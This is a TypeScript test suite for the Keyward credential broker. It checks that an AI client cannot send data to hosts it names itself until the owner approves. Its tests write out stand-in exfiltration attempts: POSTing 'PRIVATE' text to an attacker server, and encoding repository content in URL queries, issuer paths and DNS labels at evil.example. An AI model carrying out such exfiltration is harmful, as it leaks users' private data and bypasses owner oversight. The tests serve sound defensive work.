/** A host that a tool's argument names: nothing leaves for it before its owner said yes. */
import { afterAll, beforeAll, beforeEach, describe, expect, it } from 'vitest';
import { decide, openApprovals } from '../../../src/broker/approvals/page.ts';
import { callApi } from '../../../src/broker/calls/call-api.ts';
import { createCredential } from '../../../src/broker/connect/create.ts';
import { viewAttempt } from '../../../src/broker/connect/page.ts';
import { submitInputs } from '../../../src/broker/connect/page-forms.ts';
import { deleteCredential } from '../../../src/broker/credentials/delete.ts';
import { KeywardError, toPublic } from '../../../src/errors.ts';
import { localPrincipal, type Principal } from '../../../src/principal.ts';
import { startBroker, type TestBroker } from '../../support/broker.ts';
import { type DnsServer, startDnsServer } from '../../support/servers/dns-server.ts';
import { type HttpServer, startHttpServer } from '../../support/servers/http-server.ts';

const claude: Principal = { ...localPrincipal, client: 'claude' };

let evil: HttpServer;
let dns: DnsServer;
let asked: string[];
let keyward: TestBroker;
beforeAll(async () => {
  evil = await startHttpServer((_, response) => void response.end('{}'));
  dns = await startDnsServer();
  dns.answers = ['127.0.0.1'];
  keyward = await startBroker({
    origin: evil.origin,
    resolve: (host) => {
      asked.push(host);
      return dns.resolve(host);
    },
    settings: { release: 'approve' },
    pages: { showLocally: async () => false },
  });
});
afterAll(async () => {
  await keyward.close();
  await Promise.all([evil.close(), dns.close()]);
});
beforeEach(async () => {
  asked = [];
  const { vault } = keyward.broker;
  for (const record of await vault.list('approval', claude, {}, { limit: 500 }))
    await vault.commit([{ op: 'delete', kind: 'approval', record }]);
});

type Fields = Readonly<Record<string, string>>;
const create = (fields: Fields, on = keyward.broker) =>
  createCredential(on, claude, { connectorId: '', authenticationType: '', ...fields }, { obtainedBy: 'tool' });
const bearer = { connectorId: 'generic-http', authenticationType: 'bearer', token: 'whatever' };
const mcp = { connectorId: 'mcp-server', authenticationType: 'oauth2' };

/** The error of something that must be refused. */
async function failure(work: Promise<unknown>): Promise<KeywardError> {
  const error = await work.then(
    () => null,
    (problem: unknown) => problem,
  );
  if (error instanceof KeywardError) return error;
  throw new Error(`Not refused: ${String(error)}`);
}

/** What the attacker's server has got since. */
async function arrivedDuring(work: () => Promise<unknown>): Promise<string[]> {
  const before = evil.seen.length;
  await work();
  return [...asked, ...evil.seen.slice(before).map(({ method, url, body }) => `${method} ${url} ${body}`)];
}

const settled = (work: Promise<unknown>) => work.catch(() => undefined);

describe('80. a model that makes a connection to a host of its own, posts private text and deletes the connection', () => {
  it('is stopped before anything leaves, and its owner is asked about that host', async () => {
    const arrived = await arrivedDuring(async () => {
      const made = await create({ ...bearer, baseUrl: evil.origin }).catch(() => null);
      if (made?.kind !== 'created') return;
      const connectionId = made.credentialId;
      await callApi(keyward.broker, claude, { connectionId, method: 'POST', path: '/', body: { text: 'PRIVATE' } });
      await deleteCredential(keyward.broker, claude, { credentialId: connectionId });
    });
    expect(arrived).toEqual([]);
    expect(await openApprovals(keyward.broker, claude)).toMatchObject([
      {
        act: 'host',
        client: 'claude',
        facts: { hosts: [evil.host], connection: null },
        details: { inputs: { baseUrl: evil.origin } },
      },
    ]);
  });

  it.each([
    [
      'generic-api-key',
      { authenticationType: 'api_key', headerName: 'x-key', apiKey: 'whatever' },
      'baseUrl',
      'https://evil.example/v1',
    ],
    [
      'generic-http',
      { authenticationType: 'basic', username: 'a', password: 'whatever' },
      'baseUrl',
      'https://evil.example',
    ],
    ['mcp-server', { authenticationType: 'bearer', token: 'whatever' }, 'serverUrl', 'https://evil.example/mcp'],
    ['ghost', { authenticationType: 'api_key', apiKey: 'a'.repeat(26) }, 'host', 'evil.example'],
    ['jenkins', { authenticationType: 'basic', username: 'a', apiToken: 'whatever' }, 'host', 'evil.example'],
  ] as const)('is stopped at %s, too', async (connectorId, fields, name, value) => {
    const error = await failure(create({ connectorId, ...fields, [name]: value }));
    expect([error.code, error.message]).toEqual([
      'approval_required',
      expect.stringContaining('Nothing was sent there'),
    ]);
    expect(asked).toEqual([]);
  });

  it('reaches it after the yes, which is good for this address and no other', async () => {
    const id = (await failure(create({ ...bearer, baseUrl: evil.origin }))).details.approvalId ?? '';
    await decide(keyward.broker, localPrincipal, id, { answer: 'once' });
    const made = await create({ ...bearer, baseUrl: evil.origin });
    if (made.kind !== 'created') throw new Error('Something was left to ask.');
    const call = { connectionId: made.credentialId, method: 'GET', path: '/' };
    expect((await callApi(keyward.broker, claude, call)).status).toBe(200);
    expect((await failure(create({ ...bearer, baseUrl: `${evil.origin}/other` }))).code).toBe('approval_required');
    expect((await failure(create({ ...bearer, baseUrl: 'https://evil.example' }))).code).toBe('approval_required');
  });

  it('asks for nothing where the definition has the hosts, or the input fills a label below the vendor’s domain', async () => {
    const shop = {
      connectorId: 'custom.shop',
      authenticationType: 'bearer',
      shop: 'tea',
      region: 'eu',
      token: 'whatever',
    };
    expect((await create(shop)).kind).toBe('created');
    expect(await openApprovals(keyward.broker, claude)).toEqual([]);
  });

  it('leaves it to the page where the person types a secret: it shows the host, and nothing leaves before', async () => {
    const made = await create({ connectorId: 'generic-http', authenticationType: 'bearer', baseUrl: evil.origin });
    if (made.kind !== 'attempt') throw new Error('Nothing was left to ask.');
    const view = await viewAttempt(keyward.broker, made.attemptId, 'browser', 'local');
    expect(view).toMatchObject({ step: 'inputs', destination: evil.host });
    // What a person types there counts as theirs.
    const sender = { browser: 'browser', csrf: view.csrf, visitor: 'local' } as const;
    const typed = { baseUrl: 'https://typed.example', token: 'theirs' };
    expect(await submitInputs(keyward.broker, made.attemptId, sender, typed)).toBeNull();
    const { credentialId } = (await keyward.broker.vault.findAttempt(made.attemptId)) ?? {};
    const record = await keyward.broker.vault.get('credential', claude, credentialId ?? '');
    expect(record?.hosts).toEqual(['typed.example']);
    expect(asked).toEqual([]);
  });
});

describe('81. an address that carries private text to a server that is only looked at', () => {
  it.each([
    ['a remote MCP server', () => ({ ...mcp, serverUrl: `${evil.origin}/mcp?d=PRIVATE-REPO-CONTENT-42` })],
    [
      'an issuer',
      () => ({
        connectorId: 'generic-openid',
        authenticationType: 'oauth2',
        baseUrl: 'https://api.example',
        issuer: `${evil.origin}/PRIVATE`,
      }),
    ],
    ['a name', () => ({ ...mcp, serverUrl: 'https://private-repo-content-42.evil.example/mcp' })],
  ])('does not arrive: %s', async (_, fields) => {
    const arrived = await arrivedDuring(async () => settled(create(fields())));
    expect(arrived).toEqual([]);
    expect(await openApprovals(keyward.broker, claude)).toMatchObject([{ act: 'host' }]);
  });

  it('does not arrive through a connection that is there already, connected again', async () => {
    const trusting = { ...keyward.broker, settings: { ...keyward.broker.settings, anyHost: 'allow' as const } };
    const bearerOf = { connectorId: 'mcp-server', authenticationType: 'bearer', token: 'whatever' };
    const made = await create({ ...bearerOf, serverUrl: 'https://mcp.example/mcp' }, trusting);
    if (made.kind !== 'created') throw new Error('Something was left to ask.');
    // The server of the connection itself was asked what it has.
    expect(new Set(asked.splice(0))).toEqual(new Set(['mcp.example']));
    const again = { ...bearerOf, credentialId: made.credentialId, serverUrl: `${evil.origin}/mcp` };
    const arrived = await arrivedDuring(async () => settled(create(again)));
    expect(arrived).toEqual([]);
  });
});

describe('KEYWARD_ANY_HOST', () => {
  const set = (anyHost: 'allow' | 'never') => ({
    ...keyward.broker,
    settings: { ...keyward.broker.settings, anyHost },
  });

  it('allow reaches it at once', async () => {
    expect((await create({ ...bearer, baseUrl: evil.origin }, set('allow'))).kind).toBe('created');
  });

  it('never refuses it, on the page too, and asks nobody', async () => {
    for (const fields of [
      { ...bearer, baseUrl: evil.origin },
      { connectorId: 'generic-http', authenticationType: 'bearer', baseUrl: evil.origin },
    ]) {
      const error = toPublic(await failure(create(fields, set('never'))));
      expect([error.code, error.hint]).toEqual(['forbidden', expect.stringContaining('KEYWARD_ANY_HOST=never')]);
    }
    expect(await openApprovals(keyward.broker, claude)).toEqual([]);
  });
});
